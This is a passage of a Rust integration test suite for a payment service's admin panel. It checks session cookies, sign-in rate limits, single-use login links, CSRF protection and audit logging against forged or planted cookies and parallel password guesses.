//! The administration panel over real HTTP, on every backend, driven by a
//! client that behaves like a browser: redirects are not followed, the
//! panel's cookie is kept by hand from `Set-Cookie` (so that its attributes
//! can be checked), every POST carries `Origin` and the form's `csrf` field
//! taken from the page, as a browser sends them.
//!
//! - every page and every form needs a live session;
//! - sign-in: the cookie renewed at sign-in, its attributes (and the
//!   `__Host-` name with `Secure` when configured), a wrong password and an
//!   unknown name answered alike, the rate limit per name and per address
//!   (429, then sign-in again once the failures are old);
//! - single-use sign-in links: shown without being used, used once, gone
//!   when used or expired, stored as their SHA-256 only (as sessions are);
//! - a POST without the right CSRF token, or from another origin, changes
//!   nothing;
//! - the security headers on every answer, and no inline script or style;
//! - sign-out, expired sessions, disabled administrators;
//! - each listener answers only its own routes;
//! - every action writes its admin audit row, who, from where, before and
//!   after;
//! - administrators invited (a link shown once that signs them in once),
//!   disabled and enabled, never oneself, never the last active one; one's
//!   sessions listed and all signed out at once;
//! - each overview figure counts what falls inside its bounds only.

mod common;

use std::collections::BTreeMap;

use chrono::{Duration, Utc};
use common::{Backend, TestApp};
use entity::{
    admin_audit_entry, admin_login_link, admin_session, admin_sign_in_failure, administrator,
};
use masterpay::service::{
    admin_audit::Actor,
    admin_sessions,
    admins::{self, Password},
    tokens::Permission,
};
use regex::Regex;
use reqwest::header::HeaderMap;
use sea_orm::{
    ActiveModelTrait, ActiveValue::Set, ColumnTrait, EntityTrait, QueryFilter, QueryOrder,
    sea_query::Expr,
};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

on_every_backend!(
    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    with_panel: [
        pages_need_a_session,
        posts_without_a_session_change_nothing,
        sign_in_replaces_the_cookie_with_a_session_cookie,
        a_wrong_password_and_an_unknown_name_get_the_same_refusal,
        five_failures_for_a_name_pause_its_sign_in,
        five_failures_from_an_address_pause_every_name,
        sign_in_attempts_sent_at_once_share_the_limit,
        sign_in_outcomes_are_counted_in_the_metrics,
        a_login_link_used_at_once_signs_in_once,
        a_login_link_shows_a_button_then_signs_in_once,
        an_expired_login_link_is_gone,
        links_and_sessions_are_stored_as_sha256_only,
        a_post_without_the_right_csrf_token_or_from_another_origin_changes_nothing,
        every_answer_carries_the_security_headers,
        sign_out_ends_the_session,
        an_expired_session_is_signed_out,
        a_disabled_administrator_cannot_sign_in_and_is_signed_out,
        the_panel_listener_does_not_answer_the_api,
        the_api_listener_does_not_answer_the_panel,
        project_actions_each_write_one_audit_row,
        an_empty_project_name_is_refused_next_to_its_field,
        every_page_needs_a_session,
        every_form_needs_a_session,
        a_token_value_is_shown_once_after_creation_and_after_reissue,
        the_value_is_only_in_the_answer_to_its_creation_or_reissue,
        token_changes_hold_from_the_next_api_request,
        a_token_without_a_permission_or_name_is_refused_next_to_its_field,
        bad_balance_and_order_forms_are_refused_next_to_their_fields,
        setting_a_balance_is_exact_and_logged_with_its_reason,
        cancelling_a_pending_order_from_the_panel,
        a_refused_completion_is_shown_and_completed_from_the_panel,
        users_and_servers_created_in_the_panel_are_audited,
        changing_ones_password_ends_the_other_sessions,
        the_csv_export_neutralizes_what_a_spreadsheet_would_run,
        an_active_switch_other_than_true_or_false_is_refused,
        a_path_id_that_is_not_a_number_gets_the_panels_not_found_page,
        counts_of_one_are_singular,
        an_administrator_cannot_disable_themselves_or_the_last_active_one,
        a_reissued_token_was_never_used,
        tokens_show_the_last_4_characters_of_each_value,
        a_reissue_with_grace_keeps_the_old_value_until_the_grace_is_ended,
        a_token_expiry_is_set_by_day_and_a_past_or_malformed_one_is_refused,
        tokens_and_projects_are_found_by_what_their_names_contain,
        sign_in_goes_on_to_the_page_asked_for_on_this_site_only,
        a_sign_in_link_sets_a_new_password_without_the_current_one_for_15_minutes,
        administrators_are_invited_disabled_and_enabled_in_the_panel,
        the_panel_refuses_to_disable_yourself,
        two_administrators_disabling_each_other_at_once_leave_one_active,
        sign_out_everywhere_ends_every_session_of_the_administrator,
        each_overview_figure_counts_only_what_falls_inside_its_bounds,
        every_list_pages_older_with_its_filters_kept,
        a_page_that_is_not_a_row_id_is_a_bad_request,
        the_orders_export_streams_every_filtered_order_in_bounded_memory,
        the_ledger_export_holds_the_filtered_entries_in_exact_decimals,
        a_refused_form_is_summarized_at_the_top_with_links_to_its_fields,
        every_change_says_what_it_did_on_the_page_it_leads_to,
        the_navigation_marks_the_current_page_and_tables_scroll_in_their_wrappers,
        webhook_endpoints_are_created_edited_toggled_and_deleted_in_the_panel,
        events_are_listed_filtered_and_shown_with_their_deliveries_and_attempts,
    ],
    // These start a panel with settings of their own.
    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    common::with_backend: [
        secure_cookies_are_host_prefixed_and_secure,
        behind_a_trusted_proxy_each_client_has_its_own_address,
    ],
);

const ADMIN: &str = "operator";
const PASSWORD: &str = "correct horse battery staple";

/// A running server with its panel on and the administrator [`ADMIN`].
struct Panel {
    app: TestApp,
    base: String,
    admin_id: i64,
    secure: bool,
}

/// Runs `test` on a [`Panel`] of `backend` with the default settings.
async fn with_panel<F, Fut>(backend: Backend, test: F)
where
    F: FnOnce(Panel) -> Fut,
    Fut: std::future::Future<Output = ()>,
{
    test(Panel::start(backend, false).await).await
}

impl Panel {
    async fn start(backend: Backend, secure: bool) -> Panel {
        Panel::start_with(backend, secure, Vec::new()).await
    }

    /// [`Panel::start`] behind the reverse proxies `trusted_proxies`.
    async fn start_with(
        backend: Backend,
        secure: bool,
        trusted_proxies: Vec<std::net::IpAddr>,
    ) -> Panel {
        let app = TestApp::spawn_with(backend, |s| {
            s.admin_listen = Some("127.0.0.1:0".into());
            s.admin_cookie_secure = secure;
            s.admin_trusted_proxies = trusted_proxies;
            // The panel shows what the relay recorded; its tests write those
            // records themselves, so no relay sends beside them.
            s.webhooks.relay_concurrency = 0;
        })
        .await;
        let base = app.panel_base.clone().expect("the panel listens");
        let mut panel = Panel {
            app,
            base,
            admin_id: 0,
            secure,
        };
        panel.admin_id = panel.administrator(ADMIN).await;
        panel
    }

    /// Creates the administrator `name` with [`PASSWORD`]; returns its id.
    async fn administrator(&self, name: &str) -> i64 {
        admins::create(
            &self.app.db,
            &Actor::CommandLine,
            name,
            Password::new(PASSWORD.into()).expect("password"),
        )
        .await
        .expect("administrator")
        .id
    }

    /// A browser that has not visited the panel yet.
    fn browser(&self) -> Browser {
        Browser {
            http: reqwest::Client::builder()
                .redirect(reqwest::redirect::Policy::none())
                .build()
                .expect("client"),
            base: self.base.clone(),
            cookie_name: if self.secure {
                "__Host-masterpay_session"
            } else {
                "masterpay_session"
            },
            cookie: None,
            others: Vec::new(),
        }
    }

    /// A browser signed in as [`ADMIN`].
    async fn signed_in(&self) -> Browser {
        let mut browser = self.browser();
        let page = browser.sign_in(ADMIN, PASSWORD).await;
        page.assert_redirect("/");
        browser
    }

    async fn sessions(&self) -> usize {
        admin_session::Entity::find()
            .all(&self.app.db)
            .await
            .expect("sessions")
            .len()
    }

    async fn projects(&self) -> Vec<entity::project::Model> {
        entity::project::Entity::find()
            .order_by_asc(entity::project::Column::Id)
            .all(&self.app.db)
            .await
            .expect("projects")
    }

    async fn audit_rows(&self) -> Vec<admin_audit_entry::Model> {
        admin_audit_entry::Entity::find()
            .order_by_asc(admin_audit_entry::Column::Id)
            .all(&self.app.db)
            .await
            .expect("audit rows")
    }

    /// The audit rows of `action` on `object_id` made through the panel
    /// (not the command line's, which seed the tests).
    async fn audit_of(&self, action: &str, object_id: &str) -> Vec<admin_audit_entry::Model> {
        admin_audit_entry::Entity::find()
            .filter(admin_audit_entry::Column::Action.eq(action))
            .filter(admin_audit_entry::Column::ObjectId.eq(object_id))
            .filter(
                admin_audit_entry::Column::Actor.ne(masterpay::service::admin_audit::COMMAND_LINE),
            )
            .all(&self.app.db)
            .await
            .expect("audit rows")
    }

    /// Asserts the single audit row of `action` on `object_id`, made by
    /// [`ADMIN`] from 127.0.0.1, with `before` and `after`.
    #[track_caller]
    fn check_row(
        &self,
        rows: &[admin_audit_entry::Model],
        before: Option<Value>,
        after: Option<Value>,
    ) {
        assert_eq!(rows.len(), 1, "exactly one audit row: {rows:?}");
        let row = &rows[0];
        assert_eq!(row.actor, ADMIN, "{row:?}");
        assert_eq!(row.administrator_id, Some(self.admin_id), "{row:?}");
        assert_eq!(row.address.as_deref(), Some("127.0.0.1"), "{row:?}");
        let json = |text: &Option<String>| {
            text.as_deref()
                .map(|t| serde_json::from_str::<Value>(t).expect("JSON"))
        };
        assert_eq!(json(&row.before), before, "before of {row:?}");
        assert_eq!(json(&row.after), after, "after of {row:?}");
    }

    async fn token_row_named(&self, name: &str) -> entity::app_token::Model {
        entity::app_token::Entity::find()
            .filter(entity::app_token::Column::Name.eq(name))
            .one(&self.app.db)
            .await
            .unwrap()
            .expect("the token")
    }

    /// Every row of the panel's own tables, as text (to look for secrets).
    async fn panel_tables_text(&self) -> String {
        let db = &self.app.db;
        format!(
            "{:?}\n{:?}\n{:?}\n{:?}\n{:?}",
            administrator::Entity::find().all(db).await.unwrap(),
            admin_session::Entity::find().all(db).await.unwrap(),
            admin_login_link::Entity::find().all(db).await.unwrap(),
            admin_sign_in_failure::Entity::find().all(db).await.unwrap(),
            admin_audit_entry::Entity::find().all(db).await.unwrap(),
        )
    }

    /// Moves every sign-in failure back past the rate limit's window.
    async fn age_failures(&self) {
        self.age_failures_to(Duration::minutes(6)).await;
    }

    /// Moves every sign-in failure back to `ago` before now.
    async fn age_failures_to(&self, ago: Duration) {
        admin_sign_in_failure::Entity::update_many()
            .col_expr(
                admin_sign_in_failure::Column::FailedAt,
                Expr::value(Utc::now() - ago),
            )
            .exec(&self.app.db)
            .await
            .expect("age failures");
    }

    async fn login_link(&self, name: &str) -> String {
        let (secret, _) =
            admin_sessions::create_login_link(&self.app.db, &Actor::CommandLine, name)
                .await
                .expect("login link");
        secret.expose().to_owned()
    }
}

fn sha256_hex(text: &str) -> String {
    hex::encode(Sha256::digest(text.as_bytes()))
}

/// A `Set-Cookie` header: the value and the attributes (lower-case names).
#[derive(Debug)]
struct SetCookie {
    value: String,
    attributes: BTreeMap<String, String>,
}

impl SetCookie {
    fn has(&self, attribute: &str) -> bool {
        self.attributes.contains_key(attribute)
    }

    fn attribute(&self, attribute: &str) -> Option<&str> {
        self.attributes.get(attribute).map(String::as_str)
    }
}

/// One answer of the panel.
#[derive(Debug)]
struct Page {
    status: u16,
    headers: HeaderMap,
    text: String,
}

impl Page {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers.get(name).and_then(|v| v.to_str().ok())
    }

    /// The `Set-Cookie` of the cookie `name`, when the answer sets it.
    fn set_cookie(&self, name: &str) -> Option<SetCookie> {
        let all: Vec<SetCookie> = self
            .headers
            .get_all(reqwest::header::SET_COOKIE)
            .iter()
            .filter_map(|v| v.to_str().ok())
            .filter_map(|line| {
                let mut parts = line.split(';');
                let (key, value) = parts.next()?.trim().split_once('=')?;
                (key == name).then(|| SetCookie {
                    value: value.to_owned(),
                    attributes: parts
                        .map(|part| {
                            let part = part.trim();
                            let (k, v) = part.split_once('=').unwrap_or((part, ""));
                            (k.to_ascii_lowercase(), v.to_owned())
                        })
                        .collect(),
                })
            })
            .collect();
        assert!(all.len() <= 1, "the cookie is set once per answer: {all:?}");
        all.into_iter().next()
    }

    /// The form's CSRF token in the page.
    #[track_caller]
    fn csrf(&self) -> String {
        let re = Regex::new(r#"name="csrf" value="([^"]+)""#).unwrap();
        re.captures(&self.text)
            .unwrap_or_else(|| panic!("no csrf field in {} {}", self.status, self.text))[1]
            .to_owned()
    }

    #[track_caller]
    fn assert_status(&self, status: u16) -> &Page {
        assert_eq!(self.status, status, "unexpected answer: {}", self.text);
        self
    }

    #[track_caller]
    fn assert_redirect(&self, to: &str) {
        assert_eq!(
            (self.status, self.header("location")),
            (303, Some(to)),
            "expected a redirect to {to}: {}",
            self.text
        );
    }

    /// The answer of a page that needs a session, without one: the sign-in
    /// page, which goes on to the page asked for when it was one.
    #[track_caller]
    fn assert_sign_in_required(&self) {
        let location = self.header("location").unwrap_or_default();
        assert!(
            self.status == 303
                && (location == "/sign-in" || location.starts_with("/sign-in?next=%2F")),
            "expected a redirect to the sign-in page: {} {location} {}",
            self.status,
            self.text
        );
    }

    /// The message shown next to `field`, when there is one.
    fn field_error(&self, field: &str) -> Option<String> {
        let re = Regex::new(&format!(r#"id="{field}-error"[^>]*>([^<]*)<"#)).unwrap();
        re.captures(&self.text).map(|c| c[1].to_owned())
    }
}

/// A browser: the panel's cookie (path `/`) kept by hand, other cookies
/// (a token's reveal cookie) by name and path; no redirects followed.
struct Browser {
    http: reqwest::Client,
    base: String,
    cookie_name: &'static str,
    cookie: Option<String>,
    /// Other cookies: (name, path, value).
    others: Vec<(String, String, String)>,
}

impl Browser {
    async fn send(&mut self, mut req: reqwest::RequestBuilder) -> Page {
        let built = req.try_clone().expect("clonable").build().expect("request");
        let path = built.url().path().to_owned();
        let mut cookies: Vec<String> = self
            .cookie
            .iter()
            .map(|value| format!("{}={value}", self.cookie_name))
            .collect();
        for (name, cookie_path, value) in &self.others {
            let applies = path == *cookie_path
                || path.starts_with(&format!("{}/", cookie_path.trim_end_matches('/')));
            if applies {
                cookies.push(format!("{name}={value}"));
            }
        }
        if !cookies.is_empty() {
            req = req.header("cookie", cookies.join("; "));
        }
        let res = req.send().await.expect("request");
        let page = Page {
            status: res.status().as_u16(),
            headers: res.headers().clone(),
            text: res.text().await.expect("body"),
        };
        // Without a doctype first, a browser renders the page in quirks mode.
        let html = page
            .headers
            .get(reqwest::header::CONTENT_TYPE)
            .is_some_and(|t| t.to_str().unwrap_or("").starts_with("text/html"));
        if html && !page.text.is_empty() {
            assert!(
                page.text.starts_with("<!DOCTYPE html>"),
                "{path}: not in standards mode: {}",
                &page.text[..page.text.len().min(80)]
            );
        }
        for line in page.headers.get_all(reqwest::header::SET_COOKIE) {
            let line = line.to_str().expect("text");
            let name = line.split_once('=').expect("name=value").0.trim();
            let set = page.set_cookie(name).expect("parsed");
            let deleted = set.value.is_empty() || set.attribute("max-age") == Some("0");
            if name == self.cookie_name {
                self.cookie = (!deleted).then_some(set.value);
                continue;
            }
            let cookie_path = set.attribute("path").unwrap_or("/").to_owned();
            self.others
                .retain(|(n, p, _)| !(n == name && *p == cookie_path));
            if !deleted {
                self.others.push((name.to_owned(), cookie_path, set.value));
            }
        }
        page
    }

    /// The value of a cookie other than the session's.
    fn other_cookie(&self, name: &str) -> Option<String> {
        self.others
            .iter()
            .find(|(n, _, _)| n == name)
            .map(|(_, _, value)| value.clone())
    }

    async fn get(&mut self, path: &str) -> Page {
        let req = self.http.get(format!("{}{path}", self.base));
        self.send(req).await
    }

    /// POSTs `form` as a browser does from a page of the panel.
    async fn post(&mut self, path: &str, form: &[(&str, &str)]) -> Page {
        let origin = self.base.clone();
        self.post_with(path, form, &[("origin", &origin)]).await
    }

    /// POSTs `form` with exactly `headers` besides the cookie.
    async fn post_with(
        &mut self,
        path: &str,
        form: &[(&str, &str)],
        headers: &[(&str, &str)],
    ) -> Page {
        let mut req = self.http.post(format!("{}{path}", self.base)).form(form);
        for (name, value) in headers {
            req = req.header(*name, *value);
        }
        self.send(req).await
    }

    /// Opens `page`, then submits its form to `action` with `fields` and the
    /// page's CSRF token.
    async fn submit(&mut self, page: &str, action: &str, fields: &[(&str, &str)]) -> Page {
        let shown = self.get(page).await;
        shown.assert_status(200);
        let csrf = shown.csrf();
        let mut form = vec![("csrf", csrf.as_str())];
        form.extend_from_slice(fields);
        self.post(action, &form).await
    }

    async fn sign_in(&mut self, name: &str, password: &str) -> Page {
        self.submit(
            "/sign-in",
            "/sign-in",
            &[("name", name), ("password", password)],
        )
        .await
    }

    /// Opens the sign-in link `secret` and presses its button.
    async fn use_link(&mut self, secret: &str) -> Page {
        let shown = self.get(&format!("/sign-in/link/{secret}")).await;
        let csrf = shown.csrf();
        self.post("/sign-in/link", &[("csrf", &csrf), ("link", secret)])
            .await
    }

    /// The CSRF token of this browser, from a page it can see.
    async fn csrf(&mut self) -> String {
        let page = self.get("/projects").await;
        page.assert_status(200);
        page.csrf()
    }
}

// ---- sessions ----

async fn pages_need_a_session(panel: Panel) {
    let id = panel.app.project_id;
    let pages = [
        "/".to_owned(),
        "/projects".to_owned(),
        format!("/projects/{id}"),
    ];
    // No cookie, the sign-in page's cookie, a made-up session cookie, the
    // sign-in page's value sent as a session cookie.
    let mut fresh = panel.browser();
    let mut visitor = panel.browser();
    visitor.get("/sign-in").await.assert_status(200);
    let sign_in_value = visitor
        .other_cookie("masterpay_sign_in")
        .expect("the sign-in page sets its cookie");
    assert!(visitor.cookie.is_none(), "no session cookie before sign-in");
    let mut forger = panel.browser();
    forger.cookie = Some("a".repeat(43));
    let mut planter = panel.browser();
    planter.cookie = Some(sign_in_value);
    for page in &pages {
        for browser in [&mut fresh, &mut visitor, &mut forger, &mut planter] {
            let answer = browser.get(page).await;
            answer.assert_sign_in_required();
            assert!(!answer.text.contains(ADMIN), "{page}: {}", answer.text);
        }
    }
    // The same pages answer once signed in.
    let mut signed_in = panel.signed_in().await;
    for page in &pages {
        signed_in.get(page).await.assert_status(200);
    }
}

async fn posts_without_a_session_change_nothing(panel: Panel) {
    let id = panel.app.project_id;
    let before = panel.projects().await;
    let audit_before = panel.audit_rows().await.len();
    // A browser with the pre-sign-in cookie and that cookie's own CSRF
    // token, and one without any cookie.
    let mut visitor = panel.browser();
    let csrf = visitor.get("/sign-in").await.csrf();
    let mut fresh = panel.browser();
    let posts = [
        ("/projects".to_owned(), vec![("name", "Sneaky")]),
        (format!("/projects/{id}/rename"), vec![("name", "Renamed")]),
        (format!("/projects/{id}/active"), vec![("active", "false")]),
    ];
    for (path, fields) in &posts {
        let mut form = vec![("csrf", csrf.as_str())];
        form.extend_from_slice(fields);
        visitor.post(path, &form).await.assert_sign_in_required();
        let answer = fresh.post(path, &form).await;
        assert!(
            answer.status == 303 || answer.status == 403,
            "{path} without a cookie: {} {}",
            answer.status,
            answer.text
        );
        assert_ne!(answer.header("location"), Some(&*format!("/projects/{id}")));
    }
    assert_eq!(panel.projects().await, before);
    assert_eq!(panel.audit_rows().await.len(), audit_before);
}

// ---- sign-in ----

async fn sign_in_replaces_the_cookie_with_a_session_cookie(panel: Panel) {
    let mut browser = panel.browser();
    // A session cookie value planted before sign-in (by a script of a
    // related site, say) is replaced at sign-in and worth nothing.
    let planted = "p".repeat(43);
    browser.cookie = Some(planted.clone());
    let shown = browser.get("/sign-in").await;
    shown.assert_status(200);
    // The sign-in page's cookie: its own name, never the session's.
    assert!(shown.set_cookie("masterpay_session").is_none());
    let visitor = shown
        .set_cookie("masterpay_sign_in")
        .expect("a cookie before sign-in");
    assert!(visitor.value.len() >= 32, "{visitor:?}");
    assert_eq!(visitor.attribute("path"), Some("/"));
    assert!(
        visitor.has("httponly") && !visitor.has("secure"),
        "{visitor:?}"
    );
    assert_eq!(visitor.attribute("samesite"), Some("Strict"));
    // Reloading keeps the cookie (and its CSRF token).
    let again = browser.get("/sign-in").await;
    assert!(again.set_cookie("masterpay_sign_in").is_none());
    assert_eq!(again.csrf(), shown.csrf());

    let answer = browser
        .post(
            "/sign-in",
            &[
                ("csrf", &shown.csrf()),
                ("name", ADMIN),
                ("password", PASSWORD),
            ],
        )
        .await;
    answer.assert_redirect("/");
    let session = answer
        .set_cookie("masterpay_session")
        .expect("a new cookie at sign-in");
    assert_ne!(session.value, planted, "the cookie is renewed at sign-in");
    assert_ne!(session.value, visitor.value);
    assert!(session.value.len() >= 32, "{session:?}");
    assert!(session.has("httponly"), "{session:?}");
    assert_eq!(session.attribute("samesite"), Some("Strict"), "{session:?}");
    assert_eq!(session.attribute("path"), Some("/"), "{session:?}");
    assert_eq!(session.attribute("max-age"), Some("28800"), "{session:?}");
    assert!(
        !session.has("secure"),
        "no Secure unless configured: {session:?}"
    );
    assert!(!session.has("domain"), "{session:?}");

    // Signed in: the overview names the administrator.
    let overview = browser.get("/").await;
    overview.assert_status(200);
    assert!(overview.text.contains(ADMIN), "{}", overview.text);
    // The session lasts 8 hours from its sign-in.
    let rows = admin_session::Entity::find()
        .all(&panel.app.db)
        .await
        .unwrap();
    assert_eq!(rows.len(), 1);
    let lifetime = rows[0].expires_at - rows[0].created_at;
    assert!(
        (lifetime - Duration::hours(8)).abs() < Duration::seconds(1),
        "a session lasts 8 hours: {lifetime}"
    );
    assert_eq!(rows[0].administrator_id, panel.admin_id);
    // Neither the planted value nor the sign-in page's signs anyone in.
    for value in [planted, visitor.value.clone()] {
        let mut other = panel.browser();
        other.cookie = Some(value);
        other.get("/").await.assert_sign_in_required();
    }
    // The sign-in page sends a signed-in browser to the overview.
    browser.get("/sign-in").await.assert_redirect("/");
    // Signing in again from the same browser replaces its session.
    let first = browser.cookie.clone().unwrap();
    let answer = browser
        .post(
            "/sign-in",
            &[
                ("csrf", &shown.csrf()),
                ("name", ADMIN),
                ("password", PASSWORD),
            ],
        )
        .await;
    answer.assert_redirect("/");
    assert_ne!(browser.cookie.as_deref(), Some(first.as_str()));
    assert_eq!(panel.sessions().await, 1, "the previous session ended");
    let mut old = panel.browser();
    old.cookie = Some(first);
    old.get("/").await.assert_sign_in_required();
    browser.get("/").await.assert_status(200);
}

async fn secure_cookies_are_host_prefixed_and_secure(backend: Backend) {
    let panel = Panel::start(backend, true).await;
    let mut browser = panel.browser();
    let shown = browser.get("/sign-in").await;
    shown.assert_status(200);
    assert!(shown.set_cookie("masterpay_sign_in").is_none());
    assert!(shown.set_cookie("__Host-masterpay_session").is_none());
    let visitor = shown
        .set_cookie("__Host-masterpay_sign_in")
        .expect("a __Host- cookie before sign-in");
    assert!(
        visitor.has("secure") && visitor.has("httponly"),
        "{visitor:?}"
    );
    assert_eq!(visitor.attribute("path"), Some("/"));
    assert!(!visitor.has("domain"));
    let answer = browser
        .post(
            "/sign-in",
            &[
                ("csrf", &shown.csrf()),
                ("name", ADMIN),
                ("password", PASSWORD),
            ],
        )
        .await;
    answer.assert_redirect("/");
    let session = answer
        .set_cookie("__Host-masterpay_session")
        .expect("a session cookie");
    assert_ne!(session.value, visitor.value);
    assert!(
        session.has("secure") && session.has("httponly"),
        "{session:?}"
    );
    assert_eq!(session.attribute("samesite"), Some("Strict"));
    assert_eq!(session.attribute("path"), Some("/"));
    assert_eq!(session.attribute("max-age"), Some("28800"));
    // The flash saying so is of the same kind.
    assert!(answer.set_cookie("masterpay_flash").is_none());
    let flash = answer
        .set_cookie("__Host-masterpay_flash")
        .expect("a flash cookie");
    assert!(flash.has("secure") && flash.has("httponly"), "{flash:?}");
    assert_eq!(flash.attribute("path"), Some("/"));
    let overview = browser.get("/").await;
    overview.assert_status(200);
    assert_eq!(said(&overview), ["Signed in."]);
    let deleted = overview
        .set_cookie("__Host-masterpay_flash")
        .expect("deleted");
    assert!(deleted.has("secure") && deleted.attribute("path") == Some("/"));
    // The same value under the name without the prefix is not read.
    let mut plain = panel.browser();
    plain.cookie_name = "masterpay_session";
    plain.cookie = Some(session.value.clone());
    plain.get("/").await.assert_sign_in_required();
}

async fn a_wrong_password_and_an_unknown_name_get_the_same_refusal(panel: Panel) {
    let unknown = "nobody-here";
    let mut browser = panel.browser();
    let wrong = browser.sign_in(ADMIN, "not the password at all").await;
    wrong.assert_status(401);
    assert!(
        wrong.text.contains("wrong name or password"),
        "{}",
        wrong.text
    );
    assert!(
        wrong.set_cookie("masterpay_session").is_none(),
        "no new cookie"
    );
    let no_one = browser.sign_in(unknown, "not the password at all").await;
    no_one.assert_status(401);
    assert!(no_one.set_cookie("masterpay_session").is_none());
    // The same page, but for the name typed in (the form keeps it).
    assert_eq!(
        wrong.text.replace(ADMIN, "NAME"),
        no_one.text.replace(unknown, "NAME"),
        "a wrong name and a wrong password are answered alike"
    );
    // The password is not echoed back.
    assert!(!wrong.text.contains("not the password at all"));
    // No session anywhere.
    assert_eq!(panel.sessions().await, 0);
    browser.get("/").await.assert_sign_in_required();
    // An empty form is refused the same way.
    let empty = browser.sign_in("", "").await;
    empty.assert_status(401);
    assert_eq!(panel.sessions().await, 0);
}

/// The answer of a rate-limited sign-in: 429 and a page that says why.
#[track_caller]
fn assert_rate_limited(page: &Page) {
    page.assert_status(429);
    let text = page.text.to_lowercase();
    assert!(text.contains("too many failed sign-ins"), "{}", page.text);
    assert!(text.contains("5 minutes"), "{}", page.text);
    assert!(page.set_cookie("masterpay_session").is_none(), "no session");
    let retry_after: u64 = page
        .header("retry-after")
        .expect("a Retry-After header")
        .parse()
        .expect("seconds");
    assert!((1..=300).contains(&retry_after), "{retry_after}");
}

async fn five_failures_for_a_name_pause_its_sign_in(panel: Panel) {
    let mut browser = panel.browser();
    // Four failures, then the right password: still allowed.
    for _ in 0..4 {
        browser
            .sign_in(ADMIN, "wrong password!")
            .await
            .assert_status(401);
    }
    browser.sign_in(ADMIN, PASSWORD).await.assert_redirect("/");
    // Five failures: the sixth attempt is refused, right password or not.
    let mut browser = panel.browser();
    for _ in 0..5 {
        browser
            .sign_in(ADMIN, "wrong password!")
            .await
            .assert_status(401);
    }
    let sessions = panel.sessions().await;
    assert_rate_limited(&browser.sign_in(ADMIN, PASSWORD).await);
    assert_rate_limited(&browser.sign_in(ADMIN, "wrong password!").await);
    assert_eq!(panel.sessions().await, sessions, "no session while paused");
    browser.get("/").await.assert_sign_in_required();
    // Retry-After counts down to when the oldest failure leaves the window.
    panel.age_failures_to(Duration::seconds(270)).await;
    let paused = browser.sign_in(ADMIN, PASSWORD).await;
    assert_rate_limited(&paused);
    let retry_after: i64 = paused.header("retry-after").unwrap().parse().unwrap();
    assert!((25..=30).contains(&retry_after), "{retry_after}");
    // Once the failures are older than 5 minutes, sign-in works again.
    panel.age_failures().await;
    browser.sign_in(ADMIN, PASSWORD).await.assert_redirect("/");
    browser.get("/").await.assert_status(200);

    // Counted per name: failures of the name from another address pause
    // it here too.
    let db = &panel.app.db;
    for _ in 0..5 {
        admin_sign_in_failure::ActiveModel {
            name: Set(ADMIN.to_owned()),
            address: Set("203.0.113.7".to_owned()),
            failed_at: Set(Utc::now()),
            ..Default::default()
        }
        .insert(db)
        .await
        .unwrap();
    }
    let mut other = panel.browser();
    assert_rate_limited(&other.sign_in(ADMIN, PASSWORD).await);
}

async fn five_failures_from_an_address_pause_every_name(panel: Panel) {
    panel.administrator("second").await;
    let mut browser = panel.browser();
    for n in 1..=5 {
        browser
            .sign_in(&format!("guess-{n}"), "wrong password!")
            .await
            .assert_status(401);
    }
    let sessions = panel.sessions().await;
    assert_rate_limited(&browser.sign_in("second", PASSWORD).await);
    assert_rate_limited(&panel.browser().sign_in(ADMIN, PASSWORD).await);
    assert_eq!(panel.sessions().await, sessions);
    panel.age_failures().await;
    browser
        .sign_in("second", PASSWORD)
        .await
        .assert_redirect("/");
    let overview = browser.get("/").await;
    overview.assert_status(200);
    assert!(overview.text.contains("second"));
}

/// Attempts sent at once cannot pass the limit together: of 20 wrong
/// passwords for one name sent at the same moment, at most 5 have their
/// password checked (401, each kept as a failure); every other one is
/// paused (429) and checks nothing.
async fn sign_in_attempts_sent_at_once_share_the_limit(panel: Panel) {
    let mut browsers = Vec::new();
    for _ in 0..20 {
        let mut browser = panel.browser();
        let csrf = browser.get("/sign-in").await.csrf();
        browsers.push((browser, csrf));
    }
    let statuses =
        futures::future::join_all(browsers.into_iter().map(|(mut browser, csrf)| async move {
            let form = [
                ("csrf", csrf.as_str()),
                ("name", ADMIN),
                ("password", "wrong password!"),
            ];
            browser.post("/sign-in", &form).await.status
        }))
        .await;
    let checked = statuses.iter().filter(|status| **status == 401).count();
    let paused = statuses.iter().filter(|status| **status == 429).count();
    assert_eq!(checked + paused, 20, "{statuses:?}");
    assert!(checked <= 5, "{checked} passwords checked: {statuses:?}");
    let failures = admin_sign_in_failure::Entity::find()
        .all(&panel.app.db)
        .await
        .unwrap();
    assert_eq!(failures.len(), checked, "paused attempts are not kept");
    assert_eq!(panel.sessions().await, 0);
}

/// Every sign-in attempt is counted by outcome in the service's metrics, so
/// that password guessing can be alerted on.
async fn sign_in_outcomes_are_counted_in_the_metrics(panel: Panel) {
    panel
        .browser()
        .sign_in(ADMIN, PASSWORD)
        .await
        .assert_redirect("/");
    let mut browser = panel.browser();
    for _ in 0..5 {
        browser
            .sign_in(ADMIN, "wrong password!")
            .await
            .assert_status(401);
    }
    browser.sign_in(ADMIN, PASSWORD).await.assert_status(429);
    panel.age_failures().await;
    let secret = panel.login_link(ADMIN).await;
    for expected in [303, 410] {
        let shown = browser.get(&format!("/sign-in/link/{secret}")).await;
        let csrf = if expected == 303 {
            shown.csrf()
        } else {
            browser.csrf().await
        };
        browser
            .post("/sign-in/link", &[("csrf", &csrf), ("link", &secret)])
            .await
            .assert_status(expected);
    }
    let metrics = reqwest::get(format!(
        "{}/metrics",
        panel.app.metrics_base.as_deref().unwrap()
    ))
    .await
    .unwrap()
    .text()
    .await
    .unwrap();
    for (outcome, count) in [
        ("signed_in", 1),
        ("refused", 5),
        ("rate_limited", 1),
        ("link_used", 1),
        ("link_refused", 1),
    ] {
        let line = format!("masterpay_panel_sign_ins_total{{outcome=\"{outcome}\"}} {count}");
        assert!(metrics.lines().any(|l| l == line), "{line} in:\n{metrics}");
    }
}

/// A sign-in link used by ten requests at once signs in exactly one.
async fn a_login_link_used_at_once_signs_in_once(panel: Panel) {
    let secret = panel.login_link(ADMIN).await;
    let path = format!("/sign-in/link/{secret}");
    let mut browsers = Vec::new();
    for _ in 0..10 {
        let mut browser = panel.browser();
        let shown = browser.get(&path).await;
        shown.assert_status(200);
        browsers.push((browser, shown.csrf()));
    }
    let statuses = futures::future::join_all(browsers.into_iter().map(|(mut browser, csrf)| {
        let secret = secret.clone();
        async move {
